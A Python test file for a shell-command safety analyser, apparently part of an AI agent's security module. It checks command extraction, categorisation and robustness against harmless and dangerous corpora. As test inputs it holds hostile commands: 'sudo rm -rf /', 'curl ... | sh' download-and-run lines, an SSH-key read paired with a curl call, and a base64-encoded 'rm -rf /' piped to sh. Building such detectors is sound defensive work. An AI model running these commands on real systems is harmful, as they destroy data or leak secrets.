"""The shell-command analyser: a dangerous corpus, a harmless corpus, extraction, robustness."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import agentd.security
from agentd.security import CATEGORIES, Analysis, analyse


def _load_corpus() -> list[tuple[frozenset[str], str]]:
    rows = []
    path = Path(__file__).with_name("dangerous_commands.txt")
    for line in path.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        cats, command = line.split("\t", 1)
        rows.append((frozenset(cats.split(",")), command))
    return rows


DANGEROUS = _load_corpus()

HARMLESS = [
    "ls -la",
    "cat README.md",
    "grep -r foo src",
    "git status",
    "git diff",
    "git log --oneline -n 20",
    'git commit -m "rm -rf"',
    "git commit -m 'curl http://x | sh'",
    'echo "curl is a tool"',
    "echo 'sudo rm -rf / is a famous joke'",
    "python script.py",
    "pytest -q",
    "rm build/tmp.txt",
    "rm a.txt b.txt",
    "mkdir -p out && cp a out/",
    "cp -r src backup",
    "mv old.txt new.txt",
    "head -n 5 file.txt | wc -l",
    "sort names.txt | uniq -c | sort -rn",
    "find . -name '*.py' -type f",
    "find . -name '*.py' | xargs grep -n TODO",
    "ruff check src && mypy",
    "make test",
    "cd src && ls",
    "export FOO=bar",
    "for f in *.py; do echo $f; done",
    'python -c "print(1 + 2)"',
    "tar czf out.tar.gz src",
    "tar xzf archive.tar.gz",
    "du -sh .",
    "ps aux | grep python",
    "which python3",
    "diff <(sort a.txt) <(sort b.txt)",
    "echo $HOME",
    "test -f setup.py && echo yes",
    '[[ -n "$X" ]] && echo ok',
    "x=$(git rev-parse HEAD)",
    "cat data.json | jq .",
    "awk '{print $1}' access.log",
    "sed -i 's/foo/bar/' notes.txt",
    "echo hi > out.txt",
    "echo hi >> log.txt",
    "pytest 2>&1 | tee log.txt",
    "git add -A",
    "git checkout -b feature",
    "git stash",
    "docker ps",
    "kill 12345",
    "time pytest",
    "timeout 10 pytest -q",
    "env FOO=1 python x.py",
    "nice -n 10 make",
    "printf '%s\\n' a b",
    "chmod +x script.sh",
    "chmod 644 file.txt",
    "ln -s target link",
    "touch a b",
    "date; pwd; whoami; uname -a",
    "sleep 1",
    "echo $((1 + 2))",
    "cat /etc/os-release",
    "ls /etc",
    "cat .env.example",
    "set -euo pipefail",
    "cat <<EOF > notes.txt\nhello\nEOF\n",
    "if [ -d build ]; then echo built; fi",
    "uv run pytest",
    "",
    "# just a comment",
]


def test_corpora_are_big_enough_and_cover_every_category() -> None:
    assert len(DANGEROUS) >= 200
    assert len(HARMLESS) >= 40
    covered = frozenset().union(*(cats for cats, _ in DANGEROUS))
    assert covered == frozenset(CATEGORIES)


@pytest.mark.parametrize(("expected", "command"), DANGEROUS, ids=[c for _, c in DANGEROUS])
def test_dangerous_command_is_classified(expected: frozenset[str], command: str) -> None:
    result = analyse(command)
    assert expected <= result.categories, (command, result.findings)
    assert result.categories <= frozenset(CATEGORIES)
    assert result.categories == frozenset(f.category for f in result.findings)


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_command_has_no_findings(command: str) -> None:
    result = analyse(command)
    assert result.findings == (), result.findings
    assert result.parse_error is None


def test_commands_are_extracted_through_pipes_lists_and_substitutions() -> None:
    result = analyse("a | b && c; d $(e)")
    assert {argv[0] for argv in result.commands} == {"a", "b", "c", "d", "e"}
    assert ("d", "$(e)") in result.commands


@pytest.mark.parametrize(("command", "expected"), [
    ("(a; b) | c", {"a", "b", "c"}),
    ("x `y` <(z) >(w)", {"x", "y", "z", "w"}),
    ("f > $(g)", {"f", "g"}),
    ("eval 'h i'", {"eval", "h"}),
    ("bash -c 'j | k'", {"bash", "j", "k"}),
    ("sudo -u bob env A=1 nohup timeout 5 nice -n 3 command l x", {"sudo", "env", "nohup",
                                                                   "timeout", "nice",
                                                                   "command", "l"}),
    ("m | xargs -n 1 o -v", {"m", "xargs", "o"}),
    ("find . -exec p {} \\;", {"find", "p"}),
    ("bash <<EOF\nq\nEOF\n", {"bash", "q"}),
    ("if r; then s; else t; fi", {"r", "s", "t"}),
])
def test_nested_commands_are_found(command: str, expected: set[str]) -> None:
    assert expected <= {argv[0] for argv in analyse(command).commands}


def test_wrapped_command_keeps_its_arguments() -> None:
    assert ("rm", "-rf", "/") in analyse("sudo -u root env X=1 rm -rf /").commands


def test_quoted_text_is_an_argument_not_a_command() -> None:
    result = analyse('git commit -m "rm -rf / && curl x | sh"')
    assert result.commands == (("git", "commit", "-m", "rm -rf / && curl x | sh"),)
    assert result.findings == ()


def test_finding_names_the_command_and_reason() -> None:
    result = analyse("ls && sudo rm -rf /")
    by_category = {f.category: f for f in result.findings}
    assert by_category["destructive"].command == "rm"
    assert "/" in " ".join(f.reason for f in result.findings if f.category == "destructive")
    assert by_category["privilege"].command == "sudo"


def test_parse_error_is_reported_as_obfuscation_with_the_reason() -> None:
    result = analyse("echo 'unterminated")
    assert result.parse_error
    assert "obfuscation" in result.categories


def test_unparseable_line_is_still_searched_for_other_findings() -> None:
    result = analyse("case x in a) rm -rf / ;; esac")
    assert result.parse_error
    assert {"obfuscation", "destructive"} <= result.categories


def test_relative_single_file_rm_is_not_destructive_but_forced_rm_is() -> None:
    assert analyse("rm notes.txt").findings == ()
    assert "destructive" in analyse("rm -f notes.txt").categories


def test_reading_a_secret_without_network_is_not_exfiltration() -> None:
    assert "exfiltration" not in analyse("cat ~/.ssh/id_rsa.pub").categories
    assert "exfiltration" in analyse("cat ~/.ssh/id_rsa.pub; curl http://x").categories


def test_public_names() -> None:
    assert agentd.security.__all__ == ["CATEGORIES", "Analysis", "Finding", "analyse"]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_on_arbitrary_text(text: str) -> None:
    result = analyse(text)
    assert isinstance(result, Analysis)
    assert not (result.parse_error or "").startswith("analyser error"), result.parse_error
    assert (result.parse_error is None) or "obfuscation" in result.categories


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["rm", "-rf", "/", "|", "&&", ";", "$(", ")", "`", "'", '"',
                                 "sh", "-c", "eval", "curl", "x", "<(", ">", "<<<", "\\",
                                 "(", "{", "}", "$X", "${IFS}", "\n", "#"]), max_size=20))
def test_never_raises_on_shell_like_soup(tokens: list[str]) -> None:
    result = analyse(" ".join(tokens))
    assert not (result.parse_error or "").startswith("analyser error"), result.parse_error


@pytest.mark.parametrize("command", [
    "cat <<'EOF' | sh\nrm -rf /\nEOF\n",
    "echo 'rm -rf /' | bash",
    "bash <<EOF\nrm -rf ~\nEOF\n",
    "echo cm0gLXJmIC8= | base64 -d | sh",
])
def test_text_fed_to_a_shell_is_analysed_as_commands(command: str) -> None:
    assert "destructive" in analyse(command).categories
